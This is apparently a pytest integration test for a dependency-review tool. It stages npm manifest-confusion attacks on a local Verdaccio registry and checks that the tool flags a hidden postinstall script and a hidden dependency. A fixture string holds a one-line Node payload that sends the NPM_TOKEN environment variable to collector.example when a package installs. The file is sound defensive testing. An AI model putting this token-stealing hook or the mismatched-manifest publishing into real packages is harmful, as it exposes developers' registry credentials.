"""manifest-confusion end to end against Verdaccio.

Each package is published with a raw PUT whose manifest (the publish body) differs from the
package.json inside the attached tarball, as the 2023 disclosure did against the public
registry: a hidden postinstall, a hidden dependency; and a clean control published the
ordinary way. `reviewer report --deep --format json` must flag both confusions high, with
both sides, and nothing on the control; the registry's manifest really lacks what the
tarball has (checked by fetching it).
"""

from __future__ import annotations

import json
import urllib.request
from pathlib import Path

import pytest

from reviewer.cli.main import main

pytestmark = pytest.mark.verdaccio

STEAL = "require('https').get('https://collector.example/?t=' + process.env.NPM_TOKEN)\n"


def _package_json(name: str, version: str, **fields: object) -> str:
    return json.dumps({"name": name, "version": version, **fields}, indent=2)


@pytest.fixture(scope="module")
def confused_project(verdaccio, tmp_path_factory) -> Path:  # noqa: ANN001
    published = [
        # publish body: no scripts; tarball: a postinstall running steal.js
        verdaccio.publish("mc-hidden-script", "1.0.0", {
            "package.json": _package_json("mc-hidden-script", "1.0.0",
                                          scripts={"postinstall": "node steal.js"}),
            "index.js": "module.exports = 1\n", "steal.js": STEAL,
        }, user="alice", npm_user="alice", maintainers=["alice"], extra={"description": "plain"}),
        # publish body: one dependency; tarball: a second, hidden one
        verdaccio.publish("mc-hidden-dep", "1.0.0", {
            "package.json": _package_json("mc-hidden-dep", "1.0.0",
                                          dependencies={"left-pad": "^1.3.0", "mc-evil": "1.0.0"}),
            "index.js": "module.exports = 2\n",
        }, user="alice", npm_user="alice", maintainers=["alice"],
            extra={"dependencies": {"left-pad": "^1.3.0"}}),
        # control: the tarball's package.json is the manifest
        verdaccio.publish("mc-clean", "1.0.0", {"index.js": "module.exports = 3\n"},
                          user="alice", npm_user="alice", maintainers=["alice"],
                          extra={"dependencies": {"left-pad": "^1.3.0"},
                                 "scripts": {"test": "node index.js"}}),
    ]
    project = tmp_path_factory.mktemp("confusion")
    deps = {p.name: p.version for p in published}
    packages: dict[str, object] = {"": {"name": "app", "version": "1.0.0", "dependencies": deps}}
    for p in published:
        packages[f"node_modules/{p.name}"] = {
            "version": p.version, "resolved": verdaccio.tarball_url(p.name, p.version),
            "integrity": p.integrity}
    (project / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0", "dependencies": deps}))
    (project / "package-lock.json").write_text(json.dumps(
        {"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": True, "packages": packages}))
    return project


def _registry_manifest(url: str, name: str, version: str) -> dict:
    with urllib.request.urlopen(f"{url}{name}") as answer:  # noqa: S310 - loopback Verdaccio
        return json.loads(answer.read())["versions"][version]


def test_verdaccio_serves_the_confused_manifests(confused_project, verdaccio) -> None:  # noqa: ANN001
    assert "scripts" not in _registry_manifest(verdaccio.url, "mc-hidden-script", "1.0.0")
    assert _registry_manifest(verdaccio.url, "mc-hidden-dep", "1.0.0")["dependencies"] == {"left-pad": "^1.3.0"}


def test_report_deep_flags_both_confusions_and_not_the_control(confused_project, verdaccio, tmp_path, capsys) -> None:  # noqa: ANN001
    code = main(["report", str(confused_project), "--deep", "--format", "json",
                 "--registry", verdaccio.url, "--cache-dir", str(tmp_path / "cache")])
    captured = capsys.readouterr()
    assert code == 0, captured.err
    signals = {p["name"]: {s["id"]: s for s in p["signals"]} for p in json.loads(captured.out)["packages"]}
    script = signals["mc-hidden-script"]["manifest-confusion"]
    assert script["severity"] == "high" and not script["unknown"]
    assert script["details"]["differences"] == [
        {"field": "scripts", "tarball": "postinstall: node steal.js", "registry": "postinstall: (absent)"}]
    # npm runs the tarball's postinstall: install-script and the code scan follow it
    assert signals["mc-hidden-script"]["install-script"]["summary"] == "postinstall: node steal.js"
    assert "suspicious-code" in signals["mc-hidden-script"]
    dep = signals["mc-hidden-dep"]["manifest-confusion"]
    assert dep["severity"] == "high"
    assert dep["details"]["differences"] == [
        {"field": "dependencies", "tarball": "mc-evil: 1.0.0", "registry": "mc-evil: (absent)"}]
    assert "manifest-confusion" not in signals["mc-clean"]
    assert "install-script" not in signals["mc-clean"]
